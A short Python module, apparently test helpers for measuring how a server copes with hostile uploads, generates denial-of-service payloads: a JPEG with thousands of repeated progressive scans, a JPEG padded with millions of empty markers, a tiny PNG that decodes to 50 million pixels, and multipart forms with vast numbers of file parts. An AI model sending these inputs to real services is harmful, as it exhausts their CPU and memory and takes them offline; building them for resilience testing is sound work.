"""Requests made to hurt a server, and what its processes cost the machine."""

import io
import struct
import zlib

from PIL import Image


def make_slow_jpeg(side: int = 7000, scans: int = 8000) -> bytes:
    """A small progressive JPEG of many scans: each goes through all blocks of the image once more."""
    file = io.BytesIO()
    Image.new("L", (side, side), 128).save(file, "JPEG", progressive=True, quality=50)
    plain = file.getvalue()
    tables = plain.rindex(b"\xff\xc4", 0, plain.rindex(b"\xff\xda"))  # the last scan's own table, and the scan
    last = plain[tables:-2]
    return plain[:-2] + last * scans + b"\xff\xd9"


def make_jpeg_of_markers(markers: int = 4_000_000) -> bytes:
    """A JPEG of millions of empty markers, with metadata, so that Pillow walks over them."""
    file, exif = io.BytesIO(), Image.Exif()
    exif[0x0112] = 1
    Image.new("L", (64, 64), 128).save(file, "JPEG", exif=exif)
    plain = file.getvalue()
    return plain[:2] + b"\xff\xe5\x00\x02" * markers + plain[2:]


def make_wide_png(side: int = 7071) -> bytes:
    """A grey PNG of 16 bits a pixel, all black: 97 kB for 50 million pixels."""
    squeeze, row = zlib.compressobj(9), bytes(1 + 2 * side)
    rows = b"".join(squeeze.compress(row) for _ in range(side)) + squeeze.flush()
    head = struct.pack(">IIBBBBB", side, side, 16, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in ((b"IHDR", head), (b"IDAT", rows), (b"IEND", b""))
    )


def make_form(parts: int, content: bytes = b"") -> bytes:
    """A form of so many files; its boundary is `edge`."""
    head = b'--edge\r\nContent-Disposition: form-data; name="i"; filename="a"\r\n\r\n'
    return (head + content + b"\r\n") * parts + b"--edge--\r\n"
